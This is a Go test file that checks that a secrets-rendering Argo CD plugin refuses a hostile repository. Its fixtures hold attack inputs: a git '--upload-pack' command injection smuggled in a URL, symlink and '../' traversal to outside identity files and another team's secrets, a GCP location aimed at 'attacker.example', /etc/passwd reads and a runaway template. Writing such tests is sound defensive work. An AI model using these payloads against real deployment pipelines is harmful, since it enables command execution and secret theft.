package main

import (
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// hostileRepo is a repository written by an attacker who controls an application's source:
// each application under apps/ tries one way out. Beside it lie a file the sidecar must not
// read (outside) and the place a command run on the attacker's behalf would write (marker).
type hostileRepo struct {
	repo, outside, marker string
	hits                  *atomic.Int64 // requests received by the attacker's "remote" server
}

// attack is one application of the hostile repository and what a refusal must say.
type attack struct {
	app    string
	reason string // in the error
	slow   bool   // runs until the deadline
}

var attacks = []attack{
	{"kexec", "remote references are refused", false},
	{"khttp", "remote references are refused", false},
	{"kscp", "remote references are refused", false},
	{"kghcolon", "remote references are refused", false},
	{"khttpslash", "remote references are refused", false},
	{"kgenconfig", "remote references are refused", false},
	{"kbase", "is outside the repository", false},
	{"kfile", "is outside the repository", false},
	{"helmlink", "leaves the repository", false},
	{"helmsub", "leaves the repository", false},
	{"dotdot", "secret path", false},
	{"dotdotann", "not a canonical secret path", false},
	// A GCP location that would name the host the sidecar's token goes to, inside the
	// project's own GCP prefix.
	{"gcploc", "is not a GCP location name", false},
	{"runaway", "deadline", true},
}

func newHostileRepo(t *testing.T) hostileRepo {
	t.Helper()
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Write([]byte("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: fetched}\n"))
	}))
	t.Cleanup(srv.Close)
	top := t.TempDir()
	h := hostileRepo{repo: filepath.Join(top, "repo"), outside: filepath.Join(top, "outside"), marker: filepath.Join(top, "pwned"), hits: &hits}
	files := map[string]string{
		// The sidecar's own files, outside the checkout.
		"outside/identity.txt":       "OUTSIDE-CANARY-age1secret\n",
		"outside/kustomization.yaml": "resources: [cm.yaml]\n",
		"outside/cm.yaml":            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: outside}\ndata: {x: OUTSIDE-CANARY}\n",
		// kustomize running git with an option chosen by the URL.
		"repo/apps/kexec/kustomization.yaml": "resources:\n- file:///x?ref=--upload-pack=touch${IFS}" + h.marker + "\n",
		// kustomize fetching over http into a ConfigMap, and as a resource.
		"repo/apps/khttp/kustomization.yaml": "resources:\n- " + srv.URL + "/r.yaml\nconfigMapGenerator:\n- name: x\n  files:\n  - " + srv.URL + "/f\n",
		// the forms a name check missed: scp-like, host:org/repo, a one-slash URL, and a URL
		// in a builtin generator's own configuration file.
		"repo/apps/kscp/kustomization.yaml":       "resources:\n- user@" + strings.TrimPrefix(srv.URL, "http://") + ":org/repo\n",
		"repo/apps/kghcolon/kustomization.yaml":   "resources:\n- github.com:org/repo//base\n",
		"repo/apps/khttpslash/kustomization.yaml": "resources:\n- http:/" + strings.TrimPrefix(srv.URL, "http://") + "/r.yaml\n",
		"repo/apps/kgenconfig/kustomization.yaml": "generators:\n- gen.yaml\n",
		"repo/apps/kgenconfig/gen.yaml":           "apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata: {name: x}\nfiles:\n- " + srv.URL + "/f\n",
		// a base outside the checkout.
		"repo/apps/kbase/kustomization.yaml": "resources:\n- ../../../outside\n",
		// a generator reading a file outside the checkout.
		"repo/apps/kfile/kustomization.yaml": "configMapGenerator:\n- name: x\n  files:\n  - ../../../outside/identity.txt\n",
		// Helm's .Files.Get through a link to the sidecar's files.
		"repo/apps/helmlink/Chart.yaml":        "apiVersion: v2\nname: helmlink\nversion: 0.1.0\n",
		"repo/apps/helmlink/templates/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  leak: {{ .Files.Get \"leak.txt\" | quote }}\n",
		// a subchart that is a link out of the checkout.
		"repo/apps/helmsub/Chart.yaml":        "apiVersion: v2\nname: helmsub\nversion: 0.1.0\n",
		"repo/apps/helmsub/templates/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n",
		"outside/sub/Chart.yaml":              "apiVersion: v2\nname: sub\nversion: 0.1.0\n",
		"outside/sub/templates/cm.yaml":       "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: sub}\ndata: {x: OUTSIDE-CANARY}\n",
		// another team's secret through "..", inline and through the annotation.
		"repo/apps/dotdot/app.yaml":    "apiVersion: v1\nkind: Secret\nmetadata: {name: x}\nstringData:\n  pw: <path:secret/data/team-a/../team-b/db#password>\n",
		"repo/apps/gcploc/app.yaml":    "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  a: ref+gcpsm://projects/team-a-proj/locations/attacker.example:443/secrets/s#/k\n  b: <path:projects/team-a-proj/locations/" + strings.TrimPrefix(srv.URL, "http://") + "/secrets/s#k>\n",
		"repo/apps/dotdotann/app.yaml": "apiVersion: v1\nkind: Secret\nmetadata:\n  name: x\n  annotations: {avp.kubernetes.io/path: secret/data/team-a/../team-b/db}\nstringData:\n  pw: <password>\n",
		// a template that never ends and grows without bound.
		"repo/apps/runaway/Chart.yaml":          "apiVersion: v2\nname: runaway\nversion: 0.1.0\n",
		"repo/apps/runaway/templates/loop.yaml": "{{- range until 100000 }}{{- range until 100000 }}\n# {{ . }}\n{{- end }}{{- end }}\n",
	}
	for name, body := range files {
		p := filepath.Join(top, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for link, target := range map[string]string{
		"repo/apps/helmlink/leak.txt":   filepath.Join(h.outside, "identity.txt"),
		"repo/apps/helmsub/charts/sub":  filepath.Join(h.outside, "sub"),
		"repo/apps/helmlink/charts/.ok": "../Chart.yaml", // inside: harmless
	} {
		p := filepath.Join(top, link)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
	}
	return h
}

// secretsFile holds team-a's and team-b's secrets; team-b's value is a canary.
func hostileSecrets(t *testing.T) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "secrets.yaml")
	if err := os.WriteFile(p, []byte("secret/data/team-a/db: {password: team-a-pw}\nsecret/data/team-b/db: {password: TEAM-B-CANARY}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// refused checks that an attack was refused for the stated reason, with nothing rendered
// and no side effect.
func (h hostileRepo) refused(t *testing.T, a attack, failed bool, stdout, errText string) {
	t.Helper()
	if !failed {
		t.Errorf("%s: not refused; output:\n%s", a.app, stdout)
	}
	if strings.TrimSpace(stdout) != "" {
		t.Errorf("%s: something was rendered:\n%s", a.app, stdout)
	}
	if !strings.Contains(errText, a.reason) && !(a.slow && strings.Contains(errText, "memory")) {
		t.Errorf("%s: error %q does not say %q", a.app, errText, a.reason)
	}
	for _, canary := range []string{"OUTSIDE-CANARY", "TEAM-B-CANARY"} {
		if strings.Contains(stdout+errText, canary) {
			t.Errorf("%s: %s leaked", a.app, canary)
		}
	}
	if _, err := os.Stat(h.marker); err == nil {
		t.Errorf("%s: a command ran on the repository's behalf (%s exists)", a.app, h.marker)
	}
	if n := h.hits.Load(); n != 0 {
		t.Errorf("%s: the attacker's server received %d requests", a.app, n)
	}
}

func argoEnvFor(app string, secrets string) map[string]string {
	return map[string]string{
		"KEYWAY_SECRETS_FILE":     secrets,
		"ARGOCD_APP_NAME":         app,
		"ARGOCD_APP_NAMESPACE":    "team-a",
		"ARGOCD_APP_PROJECT_NAME": "team-a",
		"ARGOCD_APP_SOURCE_PATH":  "apps/" + app,
	}
}

// TestHostileRepository tries every attack through `keyway render`, `keyway argocd generate`
// (as argocd-cmp-server runs it) and `keyway argocd serve` (as the repo-server talks to it),
// with the project limited to team-a's secret paths.
func TestHostileRepository(t *testing.T) {
	h := newHostileRepo(t)
	secrets := hostileSecrets(t)
	plugin := loadPlugin(t)
	const policy, gcpPolicy = "team-a=secret/data/team-a/", "team-a=gcpsm:projects/team-a-proj"

	t.Run("render", func(t *testing.T) {
		for _, a := range attacks {
			t.Run(a.app, func(t *testing.T) {
				t.Parallel()
				r := runCmp(t, []string{"keyway", "render", "--secrets-file", secrets, "--timeout", "4s", filepath.Join(h.repo, "apps", a.app)}, h.repo, nil)
				h.refused(t, a, r.err != nil, r.stdout, r.stderr)
			})
		}
	})
	t.Run("argocd generate", func(t *testing.T) {
		for _, a := range attacks {
			t.Run(a.app, func(t *testing.T) {
				t.Parallel()
				env := argoEnvFor(a.app, secrets)
				env["KEYWAY_ARGOCD_PROJECT_PATH"] = policy + "," + gcpPolicy
				env["KEYWAY_TIMEOUT"] = "4s"
				r := runCmp(t, plugin.Spec.Generate.Command, filepath.Join(h.repo, "apps", a.app), env)
				h.refused(t, a, r.err != nil, r.stdout, r.stderr)
			})
		}
	})
	t.Run("krm", func(t *testing.T) {
		// A KRM function receives the items kustomize read; of the attacks, the references
		// reach it. The same items go to keyway krm as a ResourceList on stdin.
		for _, a := range attacks {
			if !strings.HasPrefix(a.app, "dotdot") {
				continue
			}
			t.Run(a.app, func(t *testing.T) {
				item, err := os.ReadFile(filepath.Join(h.repo, "apps", a.app, "app.yaml"))
				if err != nil {
					t.Fatal(err)
				}
				list := "apiVersion: config.kubernetes.io/v1\nkind: ResourceList\nfunctionConfig:\n  apiVersion: v1\n  kind: ConfigMap\n  metadata: {name: keyway}\n  data: {secrets-file: " + secrets + "}\nitems:\n- " +
					strings.ReplaceAll(strings.TrimSpace(string(item)), "\n", "\n  ") + "\n"
				cmd := exec.Command("keyway", "krm")
				cmd.Dir = filepath.Dir(secrets) // kustomize runs a function in the kustomization's directory
				cmd.Stdin = strings.NewReader(list)
				var out, errb strings.Builder
				cmd.Stdout, cmd.Stderr = &out, &errb
				err = cmd.Run()
				// The KRM protocol answers a failure with the ResourceList, items untouched,
				// and the problems as results: what must not appear is a value.
				if !strings.Contains(out.String(), "severity: error") {
					t.Errorf("no error result:\n%s", out.String())
				}
				h.refused(t, a, err != nil, "", out.String()+errb.String())
			})
		}
	})
	t.Run("krm functionConfig cannot steer the operator's settings", func(t *testing.T) {
		// A listener of the repository's choosing: it must never see a request, or a token.
		hits := make(chan string, 10)
		trap := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits <- r.Header.Get("X-Vault-Token") }))
		defer trap.Close()
		for _, c := range []struct{ data, want string }{
			{"{vault-address: " + trap.URL + ", backend: vault}", `"vault-address" is the operator's setting`},
			{"{vault-token-file: /etc/hostname}", `"vault-token-file" is the operator's setting`},
			{"{age-identity: /etc/keyway/age.txt}", `"age-identity" is the operator's setting`},
			{"{secrets-file: /etc/passwd}", "outside the directory"},
			{"{secrets-file: ../../../../etc/passwd}", "outside the directory"},
		} {
			list := "apiVersion: config.kubernetes.io/v1\nkind: ResourceList\nfunctionConfig:\n  apiVersion: v1\n  kind: ConfigMap\n  metadata: {name: keyway}\n  data: " + c.data +
				"\nitems:\n- {apiVersion: v1, kind: ConfigMap, metadata: {name: x}, data: {k: '<path:secret/data/team-a/db#password>'}}\n"
			cmd := exec.Command("keyway", "krm")
			cmd.Dir = filepath.Dir(secrets)
			cmd.Env = append(os.Environ(), "VAULT_TOKEN=CANARY-operator-token")
			cmd.Stdin = strings.NewReader(list)
			out, err := cmd.CombinedOutput()
			if err == nil || !strings.Contains(string(out), c.want) || strings.Contains(string(out), "CANARY") {
				t.Errorf("%s: %v\n%s", c.data, err, out)
			}
		}
		select {
		case tok := <-hits:
			t.Fatalf("the repository's listener was reached (token %q)", tok)
		default:
		}
	})
	t.Run("argocd serve", func(t *testing.T) {
		srv, pid := startKeywayServeWith(t, []string{"KEYWAY_SECRETS_FILE=" + secrets}, "--argocd-project-path", policy, "--argocd-project-path", gcpPolicy, "--timeout", "4s")
		// A repository stream holding a link out is refused whole, at unpacking, before any
		// application in it is looked at; the other attacks go in a repository without them.
		clean := filepath.Join(filepath.Dir(h.repo), "clean")
		for _, a := range attacks {
			if !strings.HasPrefix(a.app, "helm") {
				copyTree(t, filepath.Join(h.repo, "apps", a.app), filepath.Join(clean, "apps", a.app))
			}
		}
		for _, a := range attacks {
			t.Run(a.app, func(t *testing.T) {
				if strings.HasPrefix(a.app, "helm") {
					cmd := exec.Command(srv.client, "-socket", srv.socket, "-repo", h.repo, "-app", filepath.Join(h.repo, "apps", a.app))
					out, err := cmd.CombinedOutput()
					h.refused(t, attack{app: a.app, reason: "points outside the repository"}, err != nil, "", string(out))
					return
				}
				start := time.Now()
				r := srv.ask(t, clean, "apps/"+a.app, argoEnvFor(a.app, secrets))
				h.refused(t, a, r.GenerateError != "", strings.Join(r.Manifests, "\n"), r.GenerateError)
				if a.slow && time.Since(start) > 30*time.Second {
					t.Errorf("the request took %v: the deadline did not stop it", time.Since(start))
				}
				if n := buildWorkers(pid); n != 0 {
					t.Errorf("%d build workers left running after the request", n)
				}
				// The runaway template ran in its worker, not in the sidecar: once the request
				// is answered, nothing of it keeps growing or spinning there.
				if a.slow {
					before := cpuTicks(t, pid)
					time.Sleep(time.Second)
					if spent := cpuTicks(t, pid) - before; spent > 30 {
						t.Errorf("the server used %d0 ms of CPU in the second after the request: the build still runs in it", spent)
					}
					if hwm := peakRSS(t, pid); hwm > 512<<20 {
						t.Errorf("the server's peak RSS is %d MiB: the build ran in its process", hwm>>20)
					}
				}
			})
		}
		if strings.Contains(srv.logs(), "CANARY") {
			t.Error("a canary reached the server's log")
		}
	})
}

// startKeywayServeWith is startKeywayServe with generate flags of the test's choosing; it
// returns the server and its process id.
func startKeywayServeWith(t *testing.T, env []string, generateFlags ...string) (*cmpServer, int) {
	t.Helper()
	srv := startKeywayServeArgs(t, env, generateFlags)
	return srv, srv.pid
}

// cpuTicks is the CPU a process has used so far (utime + stime), in 10 ms clock ticks.
func cpuTicks(t *testing.T, pid int) int64 {
	t.Helper()
	stat, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		t.Fatal(err)
	}
	// After "pid (comm) ": state is field 0, utime 11, stime 12.
	fields := strings.Fields(string(stat[strings.LastIndexByte(string(stat), ')')+1:]))
	var total int64
	for _, f := range fields[11:13] {
		n, err := strconv.ParseInt(f, 10, 64)
		if err != nil {
			t.Fatal(err)
		}
		total += n
	}
	return total
}

// peakRSS is a process's peak resident set size in bytes.
func peakRSS(t *testing.T, pid int) int64 {
	t.Helper()
	status, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
	if err != nil {
		t.Fatal(err)
	}
	for l := range strings.SplitSeq(string(status), "\n") {
		if v, ok := strings.CutPrefix(l, "VmHWM:"); ok {
			kib, err := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
			if err != nil {
				t.Fatal(err)
			}
			return kib << 10
		}
	}
	t.Fatal("no VmHWM")
	return 0
}

// buildWorkers counts the build worker processes whose parent is pid.
func buildWorkers(pid int) int {
	procs, _ := filepath.Glob("/proc/[0-9]*/stat")
	n := 0
	for _, p := range procs {
		stat, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		cmdline, _ := os.ReadFile(filepath.Join(filepath.Dir(p), "cmdline"))
		if !strings.Contains(string(cmdline), workerCommand) {
			continue
		}
		// stat: pid (comm) state ppid …
		fields := strings.Fields(string(stat[strings.LastIndexByte(string(stat), ')')+1:]))
		if len(fields) > 1 && fields[1] == strconv.Itoa(pid) {
			n++
		}
	}
	return n
}
